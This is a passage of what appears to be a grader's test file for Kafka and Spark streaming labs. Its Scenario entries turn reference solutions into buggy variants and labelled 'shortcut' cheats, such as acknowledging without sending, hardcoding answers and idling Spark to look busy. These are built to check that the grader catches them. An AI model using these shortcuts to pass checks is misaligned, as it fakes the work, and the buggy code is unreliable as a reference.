                "            time.sleep(0.2)\n"
                "        print('acked', value, flush=True)\n\n"
                "thread = threading.Thread(target=printer)\n"
                "thread.start()\n"
                "for line in sys.stdin:\n"
                "    value = line.rstrip('\\n')\n"
                "    if value:\n"
                "        producer.send(topic, value.encode()).add_callback(lambda m, v=value: pending.put(v))\n"
                "producer.flush()\n"
                "pending.put(None)\n"
                "thread.join()\n"
                "producer.close()\n"
                "admin.close()\n",
            ),
        ),
        fails("lab7-q3"),
        note="the leaders appended",
    ),
    Scenario(
        "producer-without-retries",
        "lab7",
        "the producer gives up on a write the leader refuses (retries=0)",
        (
            Edit(
                "lab7-producer",
                "sub",
                'acks="all", retries=0, enable_idempotence=False',
                'acks="all", enable_idempotence=True',
            ),
        ),
        fails("lab7-q3"),
    ),
    Scenario(
        "producer-acks-without-sending",
        "lab7",
        "prints 'acked' for every line and sends nothing (shortcut)",
        (
            Edit(
                "lab7-producer",
                "replace",
                "%%writefile producer.py\nimport sys\nfor line in sys.stdin:\n"
                "    print('acked', line.strip(), flush=True)\n",
            ),
        ),
        fails("lab7-q3"),
    ),
    Scenario(
        "one-at-a-time-and-auto-commit",
        "lab7",
        "the producer sends one record at a time, waiting on each "
        "future; the consumer lets the client auto-commit every second",
        (
            Edit(
                "lab7-producer",
                "replace",
                "%%writefile producer.py\n"
                "import sys\n"
                "from kafka import KafkaProducer\n"
                "from cluster.own import connection\n\n"
                "producer = KafkaProducer(**connection())   # the defaults: acks='all', retries, idempotence\n"
                "for line in sys.stdin:\n"
                "    if line.strip():\n"
                "        producer.send(sys.argv[1], line.strip().encode()).get(timeout=120)\n"
                "        print(f'acked {line.strip()}', flush=True)\n"
                "producer.close()\n",
            ),
            Edit(
                "lab7-consumer",
                "sub",
                "enable_auto_commit=True, auto_commit_interval_ms=1000",
                "enable_auto_commit=False",
            ),
            Edit("lab7-consumer", "sub", "", "        if batches:\n            consumer.commit()\n"),
        ),
        fails(),
    ),
    # lab 8: judged against the grading's own synchronous loop and on bytes on disk, never on an
    # absolute rate.
    Scenario(
        "acks-changed-after-construction",
        "lab8",
        "fast_producer makes an acks=1 producer, then writes "
        "acks='all' into its config dict, which the sender thread never reads again",
        (
            Edit(
                "lab8-producer",
                "sub",
                "p = KafkaProducer(**lab.connection, acks=1, linger_ms=20, batch_size=256 * 1024,\n"
                '                         compression_type="lz4")\n'
                '    p.config["acks"] = "all"    # looks safe to whoever reads the dict\n'
                "    return p",
                'return KafkaProducer(**lab.connection, acks="all", linger_ms=20, batch_size=256 * 1024,\n'
                '                         compression_type="lz4")',
            ),
        ),
        fails("lab8-q3"),
    ),
    Scenario(
        "prediction-wrong",
        "lab8",
        "predicts that acks=0 sends ten times as fast as acks='all'",
        (Edit("lab8-predict", "sub", "predicted_acks_speedup = 10\n", "predicted_acks_speedup = 1.2\n"),),
        fails(),
        note="you predicted 10",
    ),
    Scenario(
        "prediction-as-numpy",
        "lab8",
        "the prediction as a numpy float, a ratio of two rates",
        (Edit("lab8-predict", "replace", "predicted_acks_speedup = np.float64(15_000) / np.float64(12_000)"),),
        fails(),
    ),
    Scenario(
        "prediction-left-blank",
        "lab8",
        "runs section 4's demo without writing a prediction",
        (Edit("lab8-predict", "replace", "predicted_acks_speedup = None"),),
        fails("lab8-q3"),
    ),
    Scenario(
        "latency-in-seconds-and-p99-as-max",
        "lab8",
        "gives latencies in seconds, and the largest latency as p99",
        (
            Edit(
                "lab8-latencies",
                "sub",
                "time.time() - record.timestamp / 1000",
                "time.time() * 1000 - record.timestamp",
            ),
            Edit(
                "lab8-percentiles",
                "replace",
                "def percentiles(latencies):\n    return float(np.median(latencies)), max(latencies)\n",
            ),
        ),
        fails("lab8-q1", "lab8-q2"),
    ),
    Scenario(
        "latency-from-its-own-clock-and-the-mean",
        "lab8",
        "times each record from the moment its consumer "
        "started instead of the record's timestamp; takes the mean as p50",
        (
            Edit("lab8-latencies", "sub", "    found, start = [], time.time() * 1000\n", "    found = []\n"),
            Edit("lab8-latencies", "sub", "time.time() * 1000 - start", "time.time() * 1000 - record.timestamp"),
            Edit(
                "lab8-percentiles",
                "replace",
                "def percentiles(latencies):\n    return np.mean(latencies), np.percentile(latencies, 99)\n",
            ),
        ),
        fails("lab8-q1", "lab8-q2"),
    ),
    Scenario(
        "latencies-all-zero",
        "lab8",
        "returns a zero latency for every record without reading any (shortcut)",
        (Edit("lab8-latencies", "replace", "def latencies(topic, count):\n    return [0.0] * count\n"),),
        fails("lab8-q1"),
    ),
    Scenario(
        "synchronous-send-all-with-gzip",
        "lab8",
        "compresses with gzip but waits for each record's acknowledgement, so every batch holds one record",
        (
            Edit("lab8-producer", "sub", 'compression_type="gzip"', 'compression_type="lz4"'),
            Edit(
                "lab8-producer",
                "sub",
                "        producer.send(topic, value).get(timeout=30)\n",
                "        producer.send(topic, value)\n",
            ),
        ),
        fails("lab8-q3", "lab8-q4"),
    ),
    Scenario(
        "acks-1-for-speed",
        "lab8",
        "buys speed with acks=1",
        (Edit("lab8-producer", "sub", "acks=1, linger_ms=20", 'acks="all", linger_ms=20'),),
        fails("lab8-q3"),
    ),
    Scenario(
        "untuned-producer",
        "lab8",
        "fast_producer tunes nothing: KafkaProducer(**lab.connection), whose "
        "asynchronous sends alone beat the synchronous loop many times over; its batches are never "
        "compressed, so the day's JSON takes as much disk as it does in memory",
        (
            Edit(
                "lab8-producer",
                "sub",
                "    return KafkaProducer(**lab.connection)\n",
                '    return KafkaProducer(**lab.connection, acks="all", linger_ms=20, batch_size=256 * 1024,\n'
                '                         compression_type="lz4")\n',
            ),
        ),
        fails("lab8-q4"),
    ),
    Scenario(
        "send-all-without-flush",
        "lab8",
        "returns as soon as every value is handed to send(), before the brokers acknowledged them",
        (Edit("lab8-producer", "sub", "", "    producer.flush()\n"),),
        fails("lab8-q3", "lab8-q4"),
    ),
    Scenario(
        "compresses-values-itself",
        "lab8",
        "compresses each value with zlib before sending it, so the disk "
        "check sees small records that are not the flights",
        (
            Edit(
                "lab8-producer",
                "sub",
                "        producer.send(topic, __import__('zlib').compress(value))\n",
                "        producer.send(topic, value)\n",
            ),
        ),
        fails("lab8-q3", "lab8-q4"),
    ),
    Scenario(
        "sends-a-sample",
        "lab8",
        "sends every tenth value, to be quick",
        (Edit("lab8-producer", "sub", "    for value in values[::10]:\n", "    for value in values:\n"),),
        fails("lab8-q3", "lab8-q4"),
    ),
    Scenario(
        "other-styles",
        "lab8",
        "latencies as a pandas Series by offset, percentiles with the statistics "
        "module and with nearest rank, zstd, and send_all waiting on every future at the end",
        (
            Edit(
                "lab8-latencies",
                "replace",
                "import pandas as pd\n\n"
                "def latencies(topic, count):\n"
                "    consumer = KafkaConsumer(**lab.connection, enable_auto_commit=False)\n"
                "    tp = TopicPartition(topic, 0)\n"
                "    consumer.assign([tp])\n"
                "    consumer.seek_to_beginning(tp)\n"
                "    ages = {}\n"
                "    while len(ages) < count:\n"
                "        for batch in consumer.poll(timeout_ms=500).values():\n"
                "            for r in batch:\n"
                "                ages[r.offset] = time.time_ns() // 1_000_000 - r.timestamp\n"
                "    consumer.close()\n"
                "    return pd.Series(ages).sort_index().head(count)\n",
            ),
            Edit(
                "lab8-percentiles",
                "replace",
                "import statistics\n\n"
                "def percentiles(latencies):\n"
                "    ordered = sorted(latencies)\n"
                "    cuts = statistics.quantiles(ordered, n=100)\n"
                "    return cuts[49], ordered[int(0.99 * len(ordered))]\n",
            ),
            Edit(
                "lab8-producer",
                "replace",
                "def fast_producer():\n"
                "    return KafkaProducer(**lab.connection, linger_ms=10, batch_size=64 * 1024, "
                "compression_type='zstd')\n\n\n"
                "def send_all(producer, topic, values):\n"
                "    futures = [producer.send(topic, value=v) for v in values]\n"
                "    for f in futures:\n"
                "        f.get(timeout=60)\n",
            ),
        ),
        fails(),
    ),
    # --- lab 9: streaming ETL with Spark -----------------------------------------------------
    Scenario(
        "dep-time-as-text",
        "lab9",
        "declares dep_time as STRING in the schema, so it stays text",
        (Edit("lab9-parse", "sub", 'dep_time STRING"', 'dep_time TIMESTAMP"'),),
        fails("lab9-q1"),
    ),
    Scenario(
        "processing-time-windows",
        "lab9",
        "windows over the time Spark processes each row "
        "(current_timestamp) instead of the flight's dep_time, in the notebook and in the job",
        (
            Edit("lab9-hourly", "sub", 'F.window(F.current_timestamp(), "1 hour")', 'F.window("dep_time", "1 hour")'),
            Edit("lab9-job", "sub", 'F.window(F.current_timestamp(), "1 hour")', 'F.window("dep_time", "1 hour")'),
        ),
        fails("lab9-q2", "lab9-q3"),
    ),
    Scenario(
        "no-watermark",
        "lab9",
        "leaves the watermark out (a batch does not need it), in the notebook and in the job",
        (
            Edit(
                "lab9-hourly", "sub", "return (flights\n", 'return (flights.withWatermark("dep_time", "30 minutes")\n'
            ),
            Edit("lab9-job", "sub", "return (flights\n", 'return (flights.withWatermark("dep_time", "30 minutes")\n'),
        ),
        fails("lab9-q3"),
    ),
    Scenario(
        "watermark-of-ten-minutes",
        "lab9",
        "the job waits only 10 minutes for late flights (the stream "
        "comes in order, so why wait longer?): each hour is written sooner, and a late flight whose hour would "
        "still be open with 30 minutes is dropped. The check reads the delay in the job's checkpoint first",
        (
            Edit(
                "lab9-job", "sub", 'withWatermark("dep_time", "10 minutes")', 'withWatermark("dep_time", "30 minutes")'
            ),
        ),
        fails("lab9-q3"),
    ),
    Scenario(
        "foreach-batch-appends",
        "lab9",
        "the job appends each micro-batch to the Parquet folder itself "
        "(foreachBatch), so a batch that is run again after a failure is written twice; 40 records a "
        "micro-batch (many then close no hour and write nothing twice). The check refuses it first for "
        "what makes the duplicates possible: the folder has no _spark_metadata log of committed files",
        (
            Edit("lab9-job", "sub", 'maxOffsetsPerTrigger="40"', 'maxOffsetsPerTrigger="100"'),
            Edit(
                "lab9-job",
                "sub",
                "def write(batch, batch_id):\n"
                '    batch.write.mode("append").parquet(output)\n\n\n'
                'query = (hourly_delays(parse(stream)).writeStream.foreachBatch(write).outputMode("append")\n'
                '         .option("checkpointLocation", checkpoint)\n',
                'query = (hourly_delays(parse(stream)).writeStream.format("parquet").outputMode("append")\n'
                '         .option("path", output).option("checkpointLocation", checkpoint)\n',
            ),
        ),
        fails("lab9-q3"),
        note="has no _spark_metadata log",
    ),
    Scenario(
        "checkpoint-in-tmp",
        "lab9",
        "the job keeps its checkpoint in a new temporary folder on every run",
        (
            Edit(
                "lab9-job",
                "sub",
                '.option("checkpointLocation", __import__("tempfile").mkdtemp())',
                '.option("checkpointLocation", checkpoint)',
            ),
        ),
        fails("lab9-q3"),
    ),
    Scenario(
        "answers-from-the-csv",
        "lab9",
        "parse() and hourly_delays() ignore their input and build their answer from the public dataset (shortcut)",
        (
            Edit(
                "lab9-parse",
                "sub",
                "    return spark.createDataFrame([dict(e, dep_time=__import__('datetime').datetime.strptime("
                "e['dep_time'], '%Y-%m-%dT%H:%M:%SZ')) for e in departures()], SCHEMA)\n",
                '    return raw.select(F.from_json(F.col("value").cast("string"), SCHEMA).alias("f")).select("f.*")\n',
            ),
            Edit("lab9-hourly", "sub", "return (parse(None).withWatermark", "return (flights.withWatermark"),
        ),
        fails("lab9-q1", "lab9-q2"),
    ),
    Scenario(
        "other-styles",
        "lab9",
        "parse with get_json_object and casts, windows as SQL expressions and a "
        "mean, a job with smaller micro-batches, and a wrong prediction in numpy booleans (both "
        "late flights counted)",
        (
            Edit(
                "lab9-parse",
                "sub",
                '    j = F.col("value").cast("string")\n'
                '    texts = [F.get_json_object(j, f"$.{c}").alias(c) for c in ("id", "carrier", "origin", "dest", "tailnum")]\n'
                '    return raw.select(*texts, F.get_json_object(j, "$.dep_delay").cast("int").alias("dep_delay"),\n'
                '                      F.to_timestamp(F.get_json_object(j, "$.dep_time")).alias("dep_time"))\n',
                '    return raw.select(F.from_json(F.col("value").cast("string"), SCHEMA).alias("f")).select("f.*")\n',
            ),
            Edit(
                "lab9-hourly",
                "replace",
                "def hourly_delays(flights):\n"
                "    return (flights.withWatermark('dep_time', '30 minutes')\n"
                "            .groupBy(F.expr(\"window(dep_time, '60 minutes') AS w\"), 'origin')\n"
                "            .agg(F.expr('count(1) AS flights'), F.mean('dep_delay').alias('avg_delay'))\n"
                "            .selectExpr('w.start AS hour', 'origin', 'flights', 'avg_delay'))\n",
            ),
            Edit("lab9-job", "sub", 'maxOffsetsPerTrigger="60"', 'maxOffsetsPerTrigger="100"'),
            Edit(
                "lab9-predict",
                "sub",
                "import numpy as np\npredicted_counted = dict(closed=np.True_, open=np.bool_(1))\n",
                'predicted_counted = {"closed": False, "open": True}\n',
            ),
        ),
        fails(),
        note="you predicted {'closed': True, 'open': True}",
    ),
    Scenario(
        "job-without-spark",
        "lab9",
        "delays_job.py without Spark: kafka-python, hourly windows and a "
        "30-minute watermark in Python, pyarrow Parquet, and offsets/, commits/ and _spark_metadata/ written "
        "by hand as Spark writes them (a failed commit stops it, a restart redoes the planned batch) (shortcut)",
        (Edit("lab9-job", "replace", LAB9_JOB_BY_HAND),),
        fails("lab9-q3"),
        note="without ever starting a Spark driver",
    ),
    Scenario(
        "job-with-an-idle-spark",
        "lab9",
        "the job without Spark above, plus a Spark session started and "
        "left idle so that a driver is seen running (shortcut)",
        (
            Edit(
                "lab9-job",
                "replace",
                LAB9_JOB_BY_HAND.replace(
                    "from cluster import connection\n",
                    "from cluster import connection\nfrom cluster.spark import spark_session\n"
                    "spark = spark_session('looks-busy')\n",
                ),
            ),
        ),
        fails("lab9-q3"),
        note="was not written by Spark",
    ),
    Scenario(
        "watermark-switched-on-restart",
        "lab9",
        "the job keeps the 30 minutes the text asks for while "
        "its checkpoint is new, and 10 minutes once it restarts from one (shortcut: a check that read the "
        "delay from the first run alone would pass it)",
        (
            Edit(
                "lab9-job",
                "sub",
                'withWatermark("dep_time", "30 minutes" if not __import__("os").path.exists(checkpoint) '
                'else "10 minutes")',
                'withWatermark("dep_time", "30 minutes")',
            ),
        ),
        fails("lab9-q3"),
    ),
    Scenario(
        "partitioned-by-origin",
        "lab9",
        "the job partitions its Parquet output by origin "
        "(origin=JFK/part-...), so the origin is in the folder names, not in the files",
        (
            Edit(
                "lab9-job",
                "sub",
                'writeStream.format("parquet").partitionBy("origin").outputMode("append")',
                'writeStream.format("parquet").outputMode("append")',
            ),
        ),
        fails(),
    ),
    Scenario(
        "laptop-in-india",
        "lab9",
        "the solution, on a laptop whose clock is set to India's time zone "
        "(TZ=Asia/Kolkata, half an hour off the hours): collect() gives local times, the hours are UTC's",
        (Edit("lab9-setup", "before", "import os, time\nos.environ['TZ'] = 'Asia/Kolkata'\ntime.tzset()\n"),),
        fails(),
    ),
    # --- lab 10: Spark streams that meet: joins and foreachBatch ------------------------------
    Scenario(
        "names-from-the-course-table",
        "lab10",
        "with_airline ignores the names it is given and joins the course's table of airlines (shortcut)",
        (
            Edit(
                "lab10-join",
                "sub",
                '    return flights.join(spark.createDataFrame(airlines()).select("carrier", "name"), "carrier", "left")\n',
                LAB10_JOIN,
            ),
        ),
        fails("lab10-q1"),
    ),
    Scenario(
        "inner-join",
        "lab10",
        "joins the airline names with an inner join, so flights of an airline the table lacks disappear",
        (Edit("lab10-join", "sub", 'f.join(n, in_use, "inner")', 'f.join(n, in_use, "left")'),),
        fails("lab10-q1"),
    ),
    Scenario(
        "joined-on-the-code-alone",
        "lab10",
        "joins the names on the carrier alone, as if each airline had one name, and predicts one row per "
        "flight: a renamed airline's flights come out twice",
        (
            Edit("lab10-join", "sub", '    return flights.join(names, "carrier", "left")\n', LAB10_JOIN),
            Edit("lab10-predict", "sub", "predicted_rows = 1\n", "predicted_rows = 2\n"),
        ),
        fails("lab10-q1"),
        note="more than once",
    ),
    Scenario(
        "latest-name-only",
        "lab10",
        "keeps only the names in use (until is null) and joins on the carrier: no repeats, but a renamed "
        "airline's earlier flights get its new name, and flights before an airline's first name get one",
        (
            Edit(
                "lab10-join",
                "sub",
                '    return flights.join(names.filter(F.col("until").isNull()).select("carrier", "name"), "carrier", "left")\n',
                LAB10_JOIN,
            ),
        ),
        fails("lab10-q1"),
    ),
    Scenario(
        "no-watermarks-plain-insert",
        "lab10",
        "joins flights and weather without watermarks (right rows, "
        "but the join's state keeps every flight and report forever), and save_batch inserts rows without a "
        "key, so a replayed micro-batch or an updated hour is there twice",
        (
            Edit(
                "lab10-weather",
                "sub",
                '    f = flights.alias("f")\n    w = weather.alias("w")\n',
                '    f = flights.withWatermark("dep_time", "2 hours").alias("f")\n'
                '    w = weather.withWatermark("time_hour", "2 hours").alias("w")\n',
            ),
            Edit(
                "lab10-upsert",
                "replace",
                "import sqlite3\n\n\n"
                "def save_batch(batch, batch_id):\n"
                "    rows = batch.select(F.date_format('hour', 'yyyy-MM-dd HH:mm:ss'), 'origin', 'flights', 'avg_delay').collect()\n"
                "    with sqlite3.connect('delays.db') as db:\n"
                "        db.execute('CREATE TABLE IF NOT EXISTS hourly (hour TEXT, origin TEXT, flights INTEGER, avg_delay REAL)')\n"
                "        db.executemany('INSERT INTO hourly VALUES (?, ?, ?, ?)', [tuple(r) for r in rows])\n",
            ),
        ),
        fails("lab10-q2", "lab10-q3"),
    ),
    Scenario(
        "weather-from-the-package-table-replaced",
        "lab10",
        "with_weather ignores the weather stream and joins "
        "the flights with the course's table of the public weather (a stream-static join: no state, no "
        "watermark needed; shortcut), and save_batch empties the table before writing each batch, into a table "
        "with a NOT NULL column of its own (a grader that could not add its row once skipped the restart)",
        (
            Edit(
                "lab10-weather",
                "replace",
                "def with_weather(flights, weather):\n"
                "    from cluster.lab import weather as public_weather\n"
                "    table = spark.createDataFrame(public_weather()).withColumn('time_hour', F.to_timestamp('time_hour'))\n"
                "    return (flights.join(table, (flights.origin == table.origin)\n"
                "                         & (F.date_trunc('hour', flights.dep_time) == table.time_hour))\n"
                "            .drop(table.origin))\n",
            ),
            Edit(
                "lab10-upsert",
                "sub",
                '        db.execute("DELETE FROM hourly")\n        db.executemany(',
                "        db.executemany(",
            ),
            Edit("lab10-upsert", "sub", 'avg_delay REAL, run TEXT NOT NULL, "', 'avg_delay REAL, "'),
            Edit("lab10-upsert", "sub", "VALUES (?, ?, ?, ?, 'live')", "VALUES (?, ?, ?, ?)"),
        ),
        fails("lab10-q2", "lab10-q3"),
        note="could not add a row of an earlier run",
    ),
    Scenario(
        "two-hour-bounds-local-hours",
        "lab10",
        "a flight may meet the reports of two hours (the bound is 2 "
        "hours), and on a laptop in India's time zone save_batch writes the hours collect() gives, local "
        "times",
        (
            Edit("lab10-setup", "before", "import os, time\nos.environ['TZ'] = 'Asia/Kolkata'\ntime.tzset()\n"),
            Edit("lab10-weather", "sub", "INTERVAL 2 HOURS", "INTERVAL 1 HOUR"),
            Edit(
                "lab10-upsert",
                "sub",
                "rows = [(str(r.hour), r.origin, r.flights, r.avg_delay) for r in batch.collect()]",
                'rows = batch.select(F.date_format("hour", "yyyy-MM-dd HH:mm:ss"), "origin", "flights", "avg_delay").collect()',
            ),
        ),
        fails("lab10-q2", "lab10-q3"),
    ),
    Scenario(
        "zero-watermarks-table-from-memory",
        "lab10",
        "watermarks of 0 seconds (each stream comes in order, "
        "nearly), so an airport's report that comes after the others' of its hour is dropped; save_batch "
        "keeps every row it was given in a dict and writes the whole table anew from it each time, its hours "
        "with two spaces before the clock (a grader that could not write such an hour once skipped the restart)",
        (
            Edit(
                "lab10-weather",
                "sub",
                '    f = flights.withWatermark("dep_time", "0 seconds").alias("f")\n'
                '    w = weather.withWatermark("time_hour", "0 seconds").alias("w")\n',
                '    f = flights.withWatermark("dep_time", "2 hours").alias("f")\n'
                '    w = weather.withWatermark("time_hour", "2 hours").alias("w")\n',
            ),
            Edit(
                "lab10-upsert",
                "replace",
                "import sqlite3\n\nSEEN = {}\n\n\n"
                "def save_batch(batch, batch_id):\n"
                "    for r in batch.select(F.date_format('hour', 'yyyy-MM-dd  HH:mm').alias('hour'), 'origin', "
                "'flights', 'avg_delay').collect():\n"
                "        SEEN[(r.hour, r.origin)] = (r.flights, r.avg_delay)\n"
                "    with sqlite3.connect('delays.db') as db:\n"
                "        db.execute('DROP TABLE IF EXISTS hourly')\n"
                "        db.execute('CREATE TABLE hourly (hour TEXT, origin TEXT, flights INTEGER, avg_delay REAL)')\n"
                "        db.executemany('INSERT INTO hourly VALUES (?, ?, ?, ?)', [k + v for k, v in SEEN.items()])\n",
            ),
        ),
        fails("lab10-q2", "lab10-q3"),
        note="a restarted job remembers nothing",
    ),
    # 5 days: the grader moves the stream 3 days past the day's last flight, and the day's reports
    # and flights span up to 28 hours in UTC; with 4 days some seeds let the first hour go.
    Scenario(
        "days-of-watermark-minute-hours",
        "lab10",
        "watermarks of 5 days to be safe, so the join keeps the "
        "whole day in its state; the table's hours written to the minute (right)",
        (
            Edit("lab10-weather", "sub", '"5 days"', '"2 hours"'),
            Edit(
                "lab10-upsert",
                "sub",
                'F.date_format("hour", "yyyy-MM-dd HH:mm")',
                'F.date_format("hour", "yyyy-MM-dd HH:mm:ss")',
            ),
        ),
        fails("lab10-q2"),
        note="three days after the others",
    ),
    Scenario(
        "weather-read-as-a-table",
        "lab10",
        "with_weather reads the reports from their topic as a table "
        "(spark.read) and joins each micro-batch of flights to it: no state and no watermark to think of, "
        "but the reports it reads are the notebook's, not those of the stream it was given (shortcut)",
        (
            Edit(
                "lab10-weather",
                "replace",
                "def with_weather(flights, weather):\n"
                '    reports = (spark.read.format("kafka").options(**kafka_options(weather_topic)).load()\n'
                '               .select(F.from_json(F.col("value").cast("string"), WEATHER_SCHEMA).alias("e"))'
                '.select("e.*"))\n'
                '    f, w = flights.alias("f"), reports.alias("w")\n'
                '    return f.join(w, F.expr("f.origin = w.origin AND f.dep_time >= w.time_hour "\n'
                '                            "AND f.dep_time < w.time_hour + INTERVAL 1 HOUR")).select(\n'
                '        "f.*", "w.time_hour", "w.temp", "w.wind_speed", "w.visib", "w.precip")\n',
            ),
        ),
        fails("lab10-q2"),
        note="only an example cell of the notebook defines",
    ),
    Scenario(
        "batch-ids-kept-beside-the-rows",
        "lab10",
        "save_batch keeps the ids of the micro-batches it wrote in "
        "a second table of delays.db, written in the same transaction as the rows, and skips a batch it has "
        "seen; rows replaced by key (right: idempotent another way)",
        (
            Edit(
                "lab10-upsert",
                "replace",
                "import sqlite3\n\n\n"
                "def save_batch(batch, batch_id):\n"
                '    rows = batch.select(F.date_format("hour", "yyyy-MM-dd HH:mm:ss"), "origin", "flights", '
                '"avg_delay").collect()\n'
                '    db = sqlite3.connect("delays.db")\n'
                "    try:\n"
                "        with db:     # the rows and the batch's id: both or neither\n"
                '            db.execute("CREATE TABLE IF NOT EXISTS hourly (hour TEXT, origin TEXT, flights INTEGER, "\n'
                '                       "avg_delay REAL, PRIMARY KEY (hour, origin))")\n'
                '            db.execute("CREATE TABLE IF NOT EXISTS batches (id INTEGER PRIMARY KEY)")\n'
                '            if db.execute("SELECT 1 FROM batches WHERE id = ?", (batch_id,)).fetchone():\n'
                "                return\n"
                '            db.executemany("INSERT OR REPLACE INTO hourly VALUES (?, ?, ?, ?)", [tuple(r) for r in rows])\n'
                '            db.execute("INSERT INTO batches VALUES (?)", (batch_id,))\n'
                "    finally:\n"
                "        db.close()\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "other-styles",
        "lab10",
        "airline names joined by a SQL condition (BETWEEN, coalesce), the weather joined with Column "
        "expressions (between, a renamed column, other watermarks), the table upserted from pandas with "
        "INSERT OR REPLACE and ISO hours",
        (
            Edit(
                "lab10-join",
                "sub",
                "    return (flights.alias('f').join(names.alias('n'), F.expr(\n"
                "        \"f.carrier = n.carrier AND f.dep_time BETWEEN n.since AND coalesce(n.until, TIMESTAMP '9999-12-31')\"),\n"
                "        'left_outer').select('f.*', 'name'))\n",
                LAB10_JOIN,
            ),
            Edit(
                "lab10-weather",
                "replace",
                "def with_weather(flights, weather):\n"
                "    fl = flights.withWatermark('dep_time', '90 minutes')\n"
                "    wx = weather.withWatermark('time_hour', '1 hour').withColumnRenamed('origin', 'airport')\n"
                "    return fl.join(wx, (fl.origin == wx.airport)\n"
                "                   & fl.dep_time.between(wx.time_hour, wx.time_hour + F.expr('INTERVAL 59 MINUTES 59 SECONDS')))\n",
            ),
            Edit(
                "lab10-upsert",
                "replace",
                "import sqlite3\n\n\n"
                "def save_batch(batch, batch_id):\n"
                "    frame = batch.withColumn('hour', F.date_format('hour', \"yyyy-MM-dd'T'HH:mm:ss'Z'\")).toPandas()\n"
                "    db = sqlite3.connect('delays.db')\n"
                "    db.execute('CREATE TABLE IF NOT EXISTS hourly (hour TEXT, origin TEXT, flights INTEGER, avg_delay REAL, '\n"
                "               'UNIQUE (hour, origin))')\n"
                "    db.executemany('INSERT OR REPLACE INTO hourly VALUES (:hour, :origin, :flights, :avg_delay)',\n"
                "                   frame.to_dict('records'))\n"
                "    db.commit()\n"
                "    db.close()\n",
            ),
        ),
        fails(),
    ),
    Scenario(
        "table-from-the-notebooks-events",
        "lab10",
        "save_batch writes the day's table worked out from the notebook's "
        "events, whatever batch it is given (shortcut)",
        (
            Edit(
                "lab10-upsert",
                "sub",
                "    by_hour = {}       # the day's table, worked out from the notebook's own events\n"
                "    for e in events:\n"
                "        by_hour.setdefault((e['dep_time'][:13].replace('T', ' ') + ':00:00', e['origin']), [])"
                ".append(e['dep_delay'])\n"
                "    rows = [(h, o, len(d), sum(d) / len(d)) for (h, o), d in by_hour.items()]\n",
                '    rows = batch.select(F.date_format("hour", "yyyy-MM-dd HH:mm:ss"), "origin", "flights", '
                '"avg_delay").collect()\n',
            ),
        ),
        fails("lab10-q3"),
    ),
    Scenario(
        "laptop-in-india",
        "lab10",
        "the solution, on a laptop whose clock is set to India's time zone "
        "(TZ=Asia/Kolkata, half an hour off the hours): collect() gives local times, the hours are UTC's",
        (Edit("lab10-setup", "before", "import os, time\nos.environ['TZ'] = 'Asia/Kolkata'\ntime.tzset()\n"),),
        fails(),
    ),
    # --- lab 11: schemas and evolution ---------------------------------------------------------
    Scenario(
        "restart-predicted-to-copy-again",
        "lab11",
        "right connectors, and a prediction that the restarted source sends the whole file again (wrong, not "
        "scored: the part's result says so)",
        (
            Edit(
                "lab11-predict-restart",
                "sub",
                "predicted_records = 2 * len(flights) + 10\n",
                "predicted_records = len(flights) + 10\n",
            ),
        ),
        fails(),
        note="you predicted 1686",
    ),
    Scenario(
        "avro-with-header",
        "lab11",
        "to_avro writes an Avro container file (fastavro.writer: a header "
        "with the schema, then the record) and from_avro reads one, instead of one bare record",
        (
            Edit(
                "lab11-encode",
                "sub",
                "def to_avro(flight):\n    out = io.BytesIO()\n    fastavro.writer(out, PARSED, [flight])\n"
                "    return out.getvalue()\n\n\ndef from_avro(data):\n"
                "    return next(fastavro.reader(io.BytesIO(data)))\n",
                "def to_avro(flight):\n    out = io.BytesIO()\n    fastavro.schemaless_writer(out, PARSED, flight)\n"
                "    return out.getvalue()\n\n\ndef from_avro(data):\n"
                "    return fastavro.schemaless_reader(io.BytesIO(data), PARSED)\n",
            ),
        ),
        fails("lab11-q1"),
    ),
    Scenario(
        "unknown-plane-as-empty-text",
        "lab11",
        'to_protobuf sets tailnum to "" when the plane is '
        "unknown, so a reader cannot tell an unknown plane from an empty name",
        (
            Edit(
                "lab11-encode",
                "sub",
                'FlightEvent(**dict(flight, tailnum=flight["tailnum"] or ""))',
                "FlightEvent(**{k: v for k, v in flight.items() if v is not None})",
            ),
        ),
        fails("lab11-q1"),
    ),
    Scenario(
        "sizes-written-down",
        "lab11",
        "the encoders written, but sizes_of returns the day's sizes copied "
        "from a classmate's notebook, whatever flights it is given (shortcut)",
        (
            Edit(
                "lab11-encode",
                "sub",
                "def sizes_of(flights):\n"
                "    return {'json': 128454, 'avro': 52408, 'protobuf': 61129}   # from a classmate's notebook\n",
                "def sizes_of(flights):\n"
                '    return {"json": sum(len(to_json(f)) for f in flights),\n'
                '            "avro": sum(len(to_avro(f)) for f in flights),\n'
                '            "protobuf": sum(len(to_protobuf(f)) for f in flights)}\n',
            ),
        ),
        fails("lab11-q1"),
    ),
    Scenario(
        "backward-and-forward-swapped",
        "lab11",
        "compatibility calls it backward when OLD readers read NEW data (the two words swapped)",
        (
            Edit(
                "lab11-compat",
                "sub",
                "backward, forward = can_read(new, old), can_read(old, new)",
                "backward, forward = can_read(old, new), can_read(new, old)",
            ),
        ),
        fails("lab11-q2"),
    ),
    Scenario(
        "compatibility-by-field-names",
        "lab11",
        "compatibility compares the two schemas' field names "
        "and defaults instead of decoding, so type changes and aliases go unseen",
        (
            Edit(
                "lab11-compat",
                "sub",
                "def compatibility(old, new):\n"
                "    o = {f['name']: f for f in old['fields']}\n"
                "    n = {f['name']: f for f in new['fields']}\n"
                "    backward = all(k in o or 'default' in f for k, f in n.items())\n"
                "    forward = all(k in n or 'default' in f for k, f in o.items())\n",
                "def compatibility(old, new):\n    backward, forward = can_read(old, new), can_read(new, old)\n",
            ),
        ),
        fails("lab11-q2"),
    ),
    Scenario(
        "registry-in-memory",
        "lab11",
        "the registry writes each version to the topic but looks ids up "
        "in a dict of its own process, so an id another registry wrote is never found",
        (
            Edit(
                "lab11-registry",
                "sub",
                "MEMORY = {}\n\n\ndef schema_by_id(schema_id):\n"
                "    if not MEMORY:\n        MEMORY.update({e['id']: e['schema'] for e in read_registry()})\n"
                "    return MEMORY[schema_id]\n",
                "def schema_by_id(schema_id):\n"
                '    return next(e["schema"] for e in read_registry() if e["id"] == schema_id)\n',
            ),
            Edit(
                "lab11-registry",
                "sub",
                "    MEMORY[entry['id']] = schema\n    return entry[\"id\"]\n",
                '    return entry["id"]\n',
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "registry-accepts-everything",
        "lab11",
        "register stores every new version without checking that it can read the old data",
        (
            Edit(
                "lab11-registry",
                "sub",
